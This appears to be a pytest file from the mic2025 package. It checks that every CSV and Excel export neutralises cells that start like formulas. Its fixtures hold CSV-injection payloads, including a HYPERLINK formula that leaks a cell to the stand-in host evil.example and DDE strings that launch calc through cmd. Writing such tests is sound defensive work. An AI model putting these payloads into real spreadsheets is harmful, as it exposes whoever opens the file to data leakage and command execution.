"""CSV injection: every CSV and Excel writer of mic2025 neutralises cells that begin
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's rule), whatever
the text came from — a note, an entity, a source title, a file name, a problem report.

The writers: ``mic2025.exports.write_frame`` (CSV, Excel) and, through it, the CLI's
``observations``, ``batches``, ``sources list`` (CSV and Excel), ``ingest
--errors-out``, ``index compute`` and ``index uncertainty`` (CSV), and ``microdata
aggregate --output`` (CSV, Excel).  ``test_no_other_writer`` fails when someone adds a
CSV or Excel writer that does not go through ``mic2025.exports``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

import mic2025
from mic2025.exports import FORMULA_START, neutralise, spreadsheet_safe, write_frame

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "a note\r=1+1",  # a carriage return inside: a spreadsheet would start a row there
]
PLAIN = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()


def assert_safe_cells(cells: list[str], where: str) -> None:
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert PLAIN.match(cell), f"{where}: cell {cell!r} would run as a formula"


def csv_cells(text: str) -> list[str]:
    lines = [line for line in text.splitlines(keepends=True) if not line.startswith("# ")]
    return [cell for row in csv.reader(io.StringIO("".join(lines))) for cell in row]


def xlsx_cells(path: Path) -> list[str]:
    import openpyxl

    book = openpyxl.load_workbook(path, read_only=True)
    cells = [c for row in book.worksheets[0].iter_rows(values_only=True) for c in row if isinstance(c, str)]
    book.close()
    return cells


def test_neutralise_rule() -> None:
    for text in HOSTILE[:-1]:
        assert neutralise(text) == "'" + text
    for text in ("-18.5", "+3", "1e5", "plain", "", "'=already"):
        assert neutralise(text) == text
    frame = pd.DataFrame({"=col": HOSTILE, "n": range(len(HOSTILE))})
    safe = spreadsheet_safe(frame)
    assert list(safe.columns) == ["'=col", "n"] and safe["n"].tolist() == list(range(len(HOSTILE)))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_write_frame(fmt: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"note": HOSTILE, "value": [-1.5] * len(HOSTILE)})
    out = tmp_path / f"x.{fmt}"
    write_frame(frame, fmt, out)
    cells = csv_cells(out.read_text()) if fmt == "csv" else xlsx_cells(out)
    assert_safe_cells(cells, fmt)
    assert "'" + HOSTILE[0] in cells


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store whose notes, entities, source title and file name are formulas."""
    root = tmp_path_factory.mktemp("inject")
    db = root / "inject.duckdb"
    monitor = mic2025.init(db, bundled=False)
    monitor.add_sources(
        [{"id": "evil_src", "title": HOSTILE[0], "publisher": HOSTILE[2], "note": HOSTILE[1]}]
    )
    rows = pd.DataFrame(
        {
            "indicator": ["broadband_penetration"] * 3,
            "area": ["CN", "CN-GD", "CN-JS"],
            "period": ["2019", "2019", "2019"],
            "value": [50.0, 60.0, 70.0],
            "entity": ["", HOSTILE[1], HOSTILE[2]],
            "note": HOSTILE[:3],
        }
    )
    monitor.write_observations(rows, source="evil_src", origin=HOSTILE[3], who="tester", vintage="2020-06-01")
    monitor.close()
    return db


def cli(*args: str):
    from mic2025.cli.main import app

    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.mark.parametrize(
    "command",
    [
        ("observations", "--all-vintages"),
        ("batches",),
        ("sources", "list"),
    ],
    ids=lambda c: " ".join(c),
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_tables(hostile_store: Path, tmp_path: Path, command: tuple[str, ...], fmt: str) -> None:
    out = tmp_path / f"out.{fmt}"
    cli(*command, "--db", str(hostile_store), "--out", str(out))
    cells = csv_cells(out.read_text()) if fmt == "csv" else xlsx_cells(out)
    assert_safe_cells(cells, " ".join(command))
    assert any(
        c.startswith("'=") or c.startswith("'+") or c.startswith("'@") or c.startswith("'-") for c in cells
    )
    if fmt == "csv":  # and to standard output
        printed = cli(*command, "--db", str(hostile_store), "--format", "csv").stdout
        assert_safe_cells(csv_cells(printed), " ".join(command) + " (stdout)")


def test_ingest_errors_out(hostile_store: Path, tmp_path: Path) -> None:
    from mic2025.cli.main import app

    bad = tmp_path / "bad.csv"
    bad.write_text(
        "indicator,area,period,value,source,vintage,note\n"
        '=HYPERLINK("http://evil.example"),CN,2019,=1+2,evil_src,2020-06-01,@SUM(1)\n'
        "broadband_penetration,+CN,2019,-,evil_src,2020-06-01,x\n"
    )
    report = tmp_path / "problems.csv"
    result = runner.invoke(app, ["ingest", str(bad), "--db", str(hostile_store), "--errors-out", str(report)])
    assert result.exit_code != 0
    cells = csv_cells(report.read_text())
    assert_safe_cells(cells, "ingest --errors-out")
    assert any(c.startswith("'=") for c in cells)


def test_index_csv(monkeypatch: pytest.MonkeyPatch) -> None:
    import mic2025.index.cli as index_cli

    monkeypatch.setattr(index_cli, "_sources_text", lambda sources: HOSTILE[0])
    printed = cli("index", "compute", "cae_mpdi", "--format", "csv", "--years", "2015").stdout
    cells = csv_cells(printed)
    assert_safe_cells(cells, "index compute")
    assert "'" + HOSTILE[0] in cells


@pytest.mark.slow
def test_index_uncertainty_csv(monkeypatch: pytest.MonkeyPatch) -> None:
    import mic2025.index.cli as index_cli

    monkeypatch.setattr(index_cli, "_sources_text", lambda sources: HOSTILE[0])
    printed = cli(
        "index", "uncertainty", "cae_mpdi", "--n", "64", "--format", "csv", "--years", "2015"
    ).stdout
    cells = csv_cells(printed)
    assert_safe_cells(cells, "index uncertainty")
    assert "'" + HOSTILE[0] in cells


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_microdata_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str) -> None:
    import mic2025.microdata.aggregate as aggregate
    from mic2025.microdata.synthetic import write_panel

    panel = write_panel(tmp_path / "panel.parquet", n_enterprises=300, years=range(2019, 2021), seed=3)
    real = aggregate.aggregate_table

    def hostile(*args, **kwargs):
        result = real(*args, **kwargs)
        return result.assign(note=HOSTILE[0])

    monkeypatch.setattr(aggregate, "aggregate_table", hostile)
    out = tmp_path / f"cells{suffix}"
    cli("microdata", "aggregate", str(panel), "--by", "area", "--output", str(out))
    cells = csv_cells(out.read_text()) if suffix == ".csv" else xlsx_cells(out)
    assert_safe_cells(cells, "microdata aggregate --output")
    assert "'" + HOSTILE[0] in cells


def test_no_other_writer() -> None:
    """Every CSV or Excel writer in the package goes through mic2025.exports."""
    pattern = re.compile(
        r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|openpyxl\.Workbook\(|xlsxwriter"
    )
    offenders = []
    for path in sorted((ROOT / "src" / "mic2025").rglob("*.py")):
        if path.name == "exports.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if pattern.search(line) and not line.lstrip().startswith("#"):
                offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert not offenders, "write CSV and Excel through mic2025.exports:\n" + "\n".join(offenders)
